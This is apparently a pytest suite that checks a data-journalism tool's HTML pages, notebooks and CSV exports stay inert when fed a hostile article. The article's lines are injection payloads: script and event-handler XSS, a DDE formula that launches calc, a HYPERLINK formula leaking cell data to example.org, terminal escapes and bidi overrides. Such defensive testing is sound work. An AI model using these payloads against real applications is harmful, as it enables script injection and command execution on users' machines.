"""A hostile article goes through the whole workbook: nothing of it runs, all of it can be read."""

import csv
import os
import re
import shutil
import subprocess
import sys
from xml.etree import ElementTree

import nbformat
import pytest
from browser import chromium
from lab import FAILED, jupyterlab, opened, run_all

from dateline import tables

pytestmark = pytest.mark.xdist_group("hostile")

MARKS = "e" + "\u0301" * 10_000
ESCAPES = "\x1b[31mred\x1b[0m \x1b]0;title\x07 \x9b2J \x7f\x08\x05"
# Each is a line, so a sentence, so a cell of a table; each would do something somewhere.
LINES = [
    "<script>window.harmed = 1; alert('Mali')</script> was sent to Mali.",
    "Mali got <img src=x onerror=\"window.harmed = 2; alert('Mali')\"> from Niger.",
    'Niger saw <svg onload="window.harmed = 3"><use href="https://example.org/x"/></svg> in Chad.',
    '<a href="javascript:window.harmed = 4">Sudan</a> is no link to Libya.',
    "</td></tr></table></div></main></details><h1>Chad</h1><b><table><tr><td>Gabon is unbalanced.",
    "<style>body { display: none }</style> hides Ghana.",
    '<iframe src="https://example.org"></iframe><meta http-equiv="refresh" content="0"> of Togo.',
    "[Benin](javascript:alert(5)) and ![Kenya](https://example.org/x.png) are Markdown.",
    "{{ 7 * 7 }} and {% raw %} stay as they are in Rwanda.",
    "Mali pays $5 for what costs $6 in Niger, and \\(x\\) or $$y$$ in Chad.",
    f"{ESCAPES} reached Mali.",
    f"{MARKS} piled up over Niger.",
    "\u202eThis runs to the left in Chad\u202c and this to the right.",
    '=HYPERLINK("https://example.org?"&A1,"Mali") is of Mali.',
    "+1+1 is of Niger.",
    "-2+3 is of Chad.",
    "@SUM(1+1) is of Sudan.",
    "=cmd|' /c calc'!A0 is of Libya.",
    "'=1+1 is of Gabon.",
    '"We <script>alert(6)</script> want Mali," said President =1+1 Moussa <b>Traoré</b> of Mali.',
    "Foreign Minister Ada $x$ Obi of Ghana met <i>Niger</i> on 14 September 2021.",
]
NAME = "=1+1 <img src=x onerror=alert(7)> $1 & $2 \"'.txt"
TITLE = "=2+2 <script>alert(8)</script>"
WATCH = "window.addEventListener('securitypolicyviolation', () => { window.harmed = 9 })"


def readable(text):
    """Text as a page holds it: line ends and spaces are its own."""
    return " ".join(text.split())


@pytest.fixture(scope="module")
def out(tmp_path_factory):
    """What a run makes of the article."""
    folder = tmp_path_factory.mktemp("hostile")
    (folder / "in").mkdir()
    (folder / "in" / NAME).write_text("\n".join(LINES), encoding="utf-8")
    with (folder / "in/SOURCES.csv").open("w", encoding="utf-8", newline="") as file:
        csv.writer(file).writerows([["file", "title", "date"], [NAME, TITLE, "2021-10-01"]])
    command = [sys.executable, "-m", "dateline", "--articles", folder / "in"]
    done = subprocess.run([*command, "--out", folder / "out"], capture_output=True, check=False)
    assert done.returncode == 0, done.stderr.decode()
    # A terminal gets no control characters of the article's.
    assert not re.search(rb"[\x00-\x09\x0b-\x1f\x7f]", done.stderr)
    return folder / "out"


@pytest.fixture(scope="module")
def browser():
    with chromium() as running:
        yield running


def test_nothing_runs_in_a_page_and_the_text_can_be_read(browser, out):
    context = browser.new_context(viewport={"width": 360, "height": 800})
    context.add_init_script(WATCH)
    page = context.new_page()
    complaints, requests = [], []
    page.on("dialog", lambda said: (complaints.append(said.message), said.dismiss()))
    page.on("console", lambda message: complaints.append(message.text))
    page.on("request", lambda asked: requests.append(asked.url))
    names = sorted(path.name for path in (out / "html").glob("*.html"))
    for name in names:
        page.goto((out / "html" / name).as_uri())
        page.eval_on_selector_all("details", "folds => folds.forEach(fold => fold.open = true)")
        page.wait_for_timeout(100)
        assert page.evaluate("window.harmed") is None
        assert page.locator("body").is_visible()
        assert page.locator("script, iframe, object, embed, form, base, main style").count() == 0
        assert page.locator("meta[http-equiv=refresh]").count() == 0
        assert page.locator("main h1").count() == 1
        target = "a.getAttribute('href') || a.getAttribute('xlink:href')"
        targets = page.eval_on_selector_all("a[href], use", f"all => all.map(a => {target})")
        # Those of the notebooks' own prose, of the pages and their files.
        beyond = {target for target in targets if ":" in target and not target.startswith("#")}
        assert beyond <= {"https://doi.org/10.1007/s10579-019-09475-3"}
        handlers = "all => all.flatMap(e => e.getAttributeNames()).filter(n => n.startsWith('on'))"
        assert page.eval_on_selector_all("*", handlers) == []
        wider = page.evaluate("document.documentElement.scrollWidth - window.innerWidth")
        assert (name, wider) == (name, 0)
    assert complaints == []
    assert [url for url in requests if not url.startswith("data:")] == [
        (out / "html" / name).as_uri() for name in names
    ]
    page.goto((out / "html/03-map.html").as_uri())
    shown = readable(page.locator(".evidence").text_content())
    assert [line for line in LINES if readable(line) not in shown] == []
    assert TITLE in shown
    # Piled up marks stay in their paragraph, and the next one can be read.
    if shot := os.environ.get("SCREENSHOTS"):
        page.locator(".evidence").screenshot(path=f"{shot}/hostile.png")
    context.close()


def test_nothing_runs_in_the_lab(browser, out, tmp_path):
    stems = [path.stem for path in sorted((out / "notebooks").glob("*.ipynb"))]
    shown = ""
    with jupyterlab(out / "notebooks", tmp_path) as address:
        # Those of the article's own text; the outputs that are there are drawn first, untrusted.
        for stem in stems[:4]:
            path = out / f"notebooks/{stem}.ipynb"
            before = [cell.get("execution_count") for cell in nbformat.read(path, 4).cells]
            with opened(browser, address, path.name) as page:
                assert page.evaluate("window.harmed") is None
                page.get_by_role("menuitem", name="Edit", exact=True).click()
                page.get_by_role("menuitem", name="Clear Outputs of All Cells").click()
                assert run_all(page, path, lambda saved, was=before: counts(saved) == was)
                # Formulas are set, if at all, after the text is drawn.
                page.wait_for_timeout(1000)
                assert page.evaluate("window.harmed") is None
                assert page.dialogs == []
                assert not [url for url in page.requests if "example.org" in url]
                assert page.locator(".jp-OutputArea-output script").count() == 0
                assert page.locator(".jp-OutputArea-output mjx-container").count() == 0
                assert page.locator(FAILED).count() == 0
                shown += page.locator(".jp-Notebook").text_content()
                if shot := os.environ.get("SCREENSHOTS"):
                    page.screenshot(path=f"{shot}/hostile-lab-{stem}.png")
    shown = readable(shown)
    assert [line for line in LINES if readable(line) not in shown] == []


def counts(notebook):
    return [cell.get("execution_count") for cell in notebook.cells]


def test_a_spreadsheet_finds_no_formula_in_any_csv_file(out, tmp_path):
    files = [*sorted((out / "tables").glob("*.csv")), *sorted((out / "figures").glob("*.csv"))]
    assert len(files) > 10
    sentences = tables.read("sentences", out / "tables")["text"]
    assert sentences.str.startswith(tuple("=+-@'")).sum() >= 6
    for path in files:
        with path.open(encoding="utf-8", newline="") as file:
            cells = [cell for row in csv.reader(file) for cell in row]
        assert [cell for cell in cells if cell.startswith(tuple("=+-@\t\r"))] == []
    spreadsheet = shutil.which("soffice")
    if not spreadsheet:
        return
    # LibreOffice, where there is one, is asked as well; the first file shows that it would run one.
    (tmp_path / "control.csv").write_text('"=1+1"\n')
    for path in files:
        shutil.copy(path, tmp_path / path.name)
    command = [spreadsheet, f"-env:UserInstallation={(tmp_path / 'profile').as_uri()}"]
    command += ["--headless", "--convert-to", "fods", "--outdir", tmp_path / "opened"]
    subprocess.run([*command, *tmp_path.glob("*.csv")], check=True, capture_output=True)
    formulas = {}
    for path in (tmp_path / "opened").glob("*.fods"):
        names = [name for each in ElementTree.parse(path).iter() for name in each.attrib]
        formulas[path.stem] = sum(name.endswith("}formula") for name in names)
    assert len(formulas) == len(files) + 1
    assert {name: count for name, count in formulas.items() if count} == {"control": 1}
